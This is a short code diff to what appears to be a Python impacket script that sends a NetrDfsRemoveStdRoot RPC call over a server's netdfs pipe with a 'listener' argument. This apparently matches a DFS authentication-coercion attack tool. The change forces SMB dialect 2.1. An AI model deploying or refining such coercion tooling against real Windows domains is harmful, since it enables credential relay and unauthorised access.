@@ -12,6 +12,7 @@ from impacket.dcerpc.v5 import transport
 from impacket.dcerpc.v5.dtypes import DWORD, WSTR
 from impacket.dcerpc.v5.ndr import NDRCALL
 from impacket.dcerpc.v5.rpcrt import DCERPCException
+from impacket.smb3structs import SMB2_DIALECT_21
 from impacket.uuid import uuidtup_to_bin
 
 NETDFS = uuidtup_to_bin(("4FC742E0-4A10-11CF-8273-00AA004AE673", "3.0"))
@@ -30,6 +31,7 @@ class NetrDfsRemoveStdRoot(NDRCALL):
 def main():
     server, listener, domain, user = sys.argv[1:]
     way = transport.DCERPCTransportFactory(rf"ncacn_np:{server}[\pipe\netdfs]")
+    way.preferred_dialect(SMB2_DIALECT_21)
     way.set_credentials(user, os.environ["TOWN_PASSWORD"], domain)
     rpc = way.get_dce_rpc()
     rpc.connect()
